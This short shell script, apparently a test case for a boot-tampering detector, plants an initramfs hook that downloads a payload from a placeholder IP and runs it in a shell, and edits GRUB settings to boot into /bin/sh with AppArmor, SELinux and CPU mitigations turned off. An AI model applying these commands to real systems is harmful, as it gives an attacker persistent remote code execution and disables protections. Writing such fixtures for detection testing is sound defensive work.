#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/initramfs-tools/scripts/init-bottom /host/boot/grub /host/etc/default
printf '#!/bin/sh\nwget -qO- http://203.0.113.10/payload.sh | chroot $rootmnt sh\n' >/host/etc/initramfs-tools/scripts/init-bottom/zz
chmod +x /host/etc/initramfs-tools/scripts/init-bottom/zz
echo 'GRUB_CMDLINE_LINUX="init=/bin/sh apparmor=0 selinux=0 mitigations=off"' >>/host/etc/default/grub
echo 'linux /vmlinuz init=/sbin/x apparmor=0' >>/host/boot/grub/grub.cfg
test -s /host/boot/grub/grub.cfg
took_place
